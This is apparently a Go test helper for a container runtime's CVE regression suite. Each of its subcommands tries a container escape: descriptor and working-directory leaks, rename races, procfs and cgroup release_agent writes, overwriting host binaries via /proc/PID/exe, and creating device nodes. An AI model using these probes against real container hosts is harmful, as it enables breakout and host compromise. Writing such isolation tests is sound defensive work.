// Else Go keeps files of the cgroup open.
//
//go:debug containermaxprocs=0

// Command attacker is what a hostile image would run: it tries to get out, and
// prints a line that begins with GOT for everything that it should not have got.
// It is built into the bundles of test/cve.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// attacks are the ways: attacker NAME [ARGUMENT...].
var attacks = map[string]func(args []string){
	"descriptors": func([]string) { descriptors() },
	"cwd":         func([]string) { workingDirectory() },
	"look":        look,
	"swap":        swap,
	"remount":     func([]string) { remount() },
	"masked":      masked,
	"race":        func(args []string) { look(args); masked(nil) },
	"spy":         func([]string) { spy() },
	"overwrite":   func([]string) { overwrite() },
	"release":     func([]string) { releaseAgent() },
	"nodes":       func([]string) { nodes() },
}

func main() {
	if len(os.Args) < 2 || attacks[os.Args[1]] == nil {
		fmt.Println("attacker: no such attack")
		os.Exit(2)
	}
	attacks[os.Args[1]](os.Args[2:])
	fmt.Println("done")
}

var said = map[string]bool{}

// got says what has been got, once.
func got(format string, args ...any) {
	if text := fmt.Sprintf("GOT "+format, args...); !said[text] {
		said[text] = true
		fmt.Println(text)
	}
}

// stopFile is what the test makes when an attacker is to end.
const stopFile = "/tmp/stop"

// until calls f over and over until the test has seen enough.
func until(f func()) {
	fmt.Println("ready")
	for n := 0; ; n++ {
		if n%64 == 0 {
			if _, err := os.Lstat(stopFile); err == nil {
				return
			}
		}
		f()
	}
}

// descriptors tells which files are open beside the streams.
func descriptors() {
	for fd := 3; fd < 1024; fd++ {
		if _, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err != nil {
			continue
		}
		target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		if !strings.HasPrefix(target, "anon_inode:[event") { // Go's own
			got("descriptor %d of %s", fd, target)
		}
	}
}

// workingDirectory climbs from where it is to the top, which must be the root.
func workingDirectory() {
	buffer := make([]byte, unix.PathMax)
	if n, err := unix.Getcwd(buffer); err != nil || buffer[0] != '/' {
		got("an unreachable working directory %q, %v", buffer[:max(n, 0)], err)
	}
	if here, top := climb("."), climb("/"); here != top {
		got("another root than the container's: %v, not %v", here, top)
	}
	if fd, err := unix.Open("/proc/self/cwd", unix.O_PATH, 0); err == nil {
		if here, top := climb("/proc/self/fd/"+strconv.Itoa(fd)), climb("/"); here != top {
			got("another root by /proc/self/cwd")
		}
	}
}

type place struct{ dev, ino uint64 }

func climb(from string) place {
	var now, above unix.Stat_t
	for path := from; unix.Stat(path, &now) == nil && unix.Stat(path+"/..", &above) == nil; path += "/.." {
		if now.Dev == above.Dev && now.Ino == above.Ino || len(path) > 3000 {
			break
		}
	}
	return place{now.Dev, now.Ino}
}

// look searches for a directory of the host, by the name of its mounts and by a
// file of it: look NAME MARKER.
func look(args []string) {
	mounts, _ := os.ReadFile("/proc/self/mountinfo")
	for line := range bytes.Lines(mounts) {
		// A directory of the image has the same name.
		if f := strings.Fields(string(line)); strings.Contains(f[3], args[0]) && !strings.Contains(f[3], "/rootfs/") {
			got("%s of the host, on %s", f[3], f[4])
		}
	}
	filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		switch {
		case err == nil && d.Name() == args[1]:
			got("the host's %s", path)
		case err == nil && d.IsDir() && (path == "/proc" || path == "/sys"):
			return fs.SkipDir
		}
		return nil
	})
	workingDirectory()
}

// swap exchanges pairs of names: swap A B [C D...].
func swap(args []string) {
	until(func() {
		for i := 0; i+1 < len(args); i += 2 {
			if err := unix.Renameat2(unix.AT_FDCWD, args[i], unix.AT_FDCWD, args[i+1], unix.RENAME_EXCHANGE); err != nil {
				fmt.Println(err)
			}
		}
		pause := unix.Timespec{Nsec: time.Now().UnixNano() % 150_000} // so that others can look names up
		unix.Nanosleep(&pause, nil)
	})
}

// remount tries to write below what has to be read-only.
func remount() {
	for _, dir := range []string{"/", "/etc", "/bin", "/proc/sys/kernel", "/sys"} {
		file := dir + "/written"
		err := os.WriteFile(file, nil, 0o644)
		if err == nil {
			os.Remove(file)
			got("to write in %s", dir)
		} else if !errors.Is(err, unix.EROFS) {
			fmt.Println(dir, err)
		}
	}
}

// masked tries to read what has to be hidden, and to write what has to be
// read-only, in each procfs: masked [DIR...].
func masked(args []string) {
	for _, proc := range append([]string{"/proc"}, args...) {
		for _, name := range []string{"keys", "timer_list", "sched_debug", "kcore"} {
			if fd, err := os.Open(proc + "/" + name); err == nil {
				if n, _ := fd.Read(make([]byte, 64)); n > 0 {
					got("to read %s/%s", proc, name)
				}
				fd.Close()
			}
		}
		for _, name := range []string{"sys/kernel/core_pattern", "sysrq-trigger", "sys/kernel/msgmax", "irq/default_smp_affinity"} {
			if fd, err := os.OpenFile(proc+"/"+name, os.O_WRONLY, 0); err == nil {
				fd.Close()
				got("to open %s/%s for writing", proc, name)
			}
		}
		for _, name := range []string{"scsi", "acpi"} {
			if files, _ := os.ReadDir(proc + "/" + name); len(files) > 0 {
				got("to list %s/%s", proc, name)
			}
		}
	}
	if files, _ := os.ReadDir("/sys/firmware"); len(files) > 0 {
		got("to list /sys/firmware")
	}
	for _, name := range []string{"null", "zero", "full", "random", "urandom"} {
		var st unix.Stat_t
		if err := unix.Stat("/dev/"+name, &st); err == nil && st.Mode&unix.S_IFMT == unix.S_IFCHR && unix.Major(st.Rdev) != 1 {
			got("a device %d:%d as /dev/%s", unix.Major(st.Rdev), unix.Minor(st.Rdev), name)
		}
	}
}

// others calls f with the directory in /proc of each process that executes no
// file of the container's root.
func others(f func(dir string)) {
	dirs, _ := os.ReadDir("/proc")
	for _, d := range dirs {
		if pid, err := strconv.Atoi(d.Name()); err == nil && pid != os.Getpid() {
			if dir := "/proc/" + d.Name(); !own(dir + "/exe") {
				f(dir)
			}
		}
	}
}

// own says whether exe leads to a file of the container's root.
func own(exe string) bool {
	var file, inside unix.Stat_t
	target, err := os.Readlink(exe)
	return err == nil && unix.Stat(exe, &file) == nil && unix.Stat(target, &inside) == nil && file.Ino == inside.Ino && file.Dev == inside.Dev
}

// spy looks into processes that enter the container: their program, their
// memory, their open files. What it sees counts as long as the process has not
// become a program of the container's, which it does not cease to be.
func spy() {
	until(func() {
		others(func(dir string) {
			exe, err := os.Readlink(dir + "/exe")
			if err != nil || strings.HasPrefix(exe, "/memfd:kiste ") || strings.HasPrefix(exe, "/bin/") {
				return // the stub, in sealed memory; a program of the container's
			}
			got("the program %s", exe)
			var seen []string
			if maps, err := os.ReadFile(dir + "/maps"); err == nil && len(maps) > 0 {
				seen = append(seen, "to read the maps of "+exe)
			}
			if mem, err := os.OpenFile(dir+"/mem", os.O_RDWR, 0); err == nil {
				mem.Close()
				seen = append(seen, "the memory of "+exe)
			}
			files, _ := os.ReadDir(dir + "/fd")
			for _, f := range files {
				target, err := os.Readlink(dir + "/fd/" + f.Name())
				if n, _ := strconv.Atoi(f.Name()); err == nil && n > 2 && strings.HasPrefix(target, "/") && !strings.HasPrefix(target, "/dev/") {
					seen = append(seen, "descriptor "+f.Name()+" of "+target)
				}
			}
			if now, err := os.Readlink(dir + "/exe"); err != nil || now != exe {
				return
			}
			for _, s := range seen {
				got("%s", s)
			}
		})
	})
}

// overwrite takes hold of the programs of processes that enter the container,
// and writes into them as soon as nobody executes them.
func overwrite() {
	held := map[string]int{}
	try := func() {
		for exe, fd := range held {
			file, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(fd), os.O_WRONLY, 0)
			if err != nil {
				continue
			}
			if n, _ := file.WriteString("overwritten by a container"); n > 0 {
				got("to write into %s", exe)
			}
			file.Close()
		}
	}
	until(func() {
		others(func(dir string) {
			fd, err := unix.Open(dir+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				return
			}
			exe, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			if _, has := held[exe]; has || own("/proc/self/fd/"+strconv.Itoa(fd)) {
				unix.Close(fd)
				return
			}
			held[exe] = fd
		})
		try()
	})
	time.Sleep(200 * time.Millisecond) // what has been held is free by now
	try()
}

// releaseAgent writes where it can what the kernel would run on the host, with
// the container's namespaces and with more of its own.
func releaseAgent() {
	writeGroups()
	// A process with one thread alone may make a user namespace.
	if len(os.Args) == 2 {
		for _, flags := range []uintptr{unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP, unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP} {
			p, err := os.StartProcess("/proc/self/exe", []string{os.Args[0], "release", "inner"}, &os.ProcAttr{
				Files: []*os.File{os.Stdin, os.Stdout, os.Stdout}, Sys: &syscall.SysProcAttr{Cloneflags: flags}})
			if err == nil {
				p.Wait()
			}
		}
	}
	for i, what := range []string{"rdma", "memory", "pids", "cpu", "devices", "freezer", "none,name=kiste"} {
		at := "/tmp/" + strconv.Itoa(i)
		os.Mkdir(at, 0o755)
		if unix.Mount("cgroup", at, "cgroup", 0, what) == nil {
			writeAgents(at)
			unix.Unmount(at, unix.MNT_DETACH)
		}
	}
}

func writeAgents(dir string) {
	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.Name() != "release_agent" {
			return nil
		}
		file, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err != nil {
			return nil
		}
		if _, err := file.WriteString("/agent"); err == nil {
			got("%s", path)
		}
		file.Close()
		return nil
	})
}

// writeGroups tries to change what is mounted of cgroups.
func writeGroups() {
	writeAgents("/sys/fs/cgroup")
	filepath.WalkDir("/sys/fs/cgroup", func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.IsDir() {
			return nil
		}
		if os.Mkdir(path+"/escaped", 0o755) == nil {
			os.Remove(path + "/escaped")
			got("to make a group in %s", path)
		}
		return nil
	})
}

// nodes makes device nodes that are not its own and opens them.
func nodes() {
	for _, d := range []struct {
		kind         uint32
		major, minor uint32
	}{{unix.S_IFCHR, 1, 1}, {unix.S_IFCHR, 1, 2}, {unix.S_IFCHR, 1, 4}, {unix.S_IFCHR, 1, 11}, {unix.S_IFCHR, 10, 229}, {unix.S_IFBLK, 7, 0}, {unix.S_IFBLK, 8, 0}, {unix.S_IFBLK, 254, 0}, {unix.S_IFBLK, 259, 0}} {
		for _, dir := range []string{"/tmp", "/dev", "/dev/shm"} {
			at := fmt.Sprintf("%s/node-%x-%d-%d", dir, d.kind, d.major, d.minor)
			if err := unix.Mknod(at, d.kind|0o666, int(unix.Mkdev(d.major, d.minor))); err != nil {
				fmt.Println(at, err)
				continue
			}
			for _, how := range []int{unix.O_RDONLY, unix.O_WRONLY} {
				fd, err := unix.Open(at, how|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
				if err == nil {
					unix.Close(fd)
				}
				// What no driver serves has passed the device rules as well.
				if err == nil || errors.Is(err, unix.ENXIO) || errors.Is(err, unix.ENODEV) {
					got("device %s: %v", at, err)
				}
			}
			unix.Unlink(at)
		}
	}
}
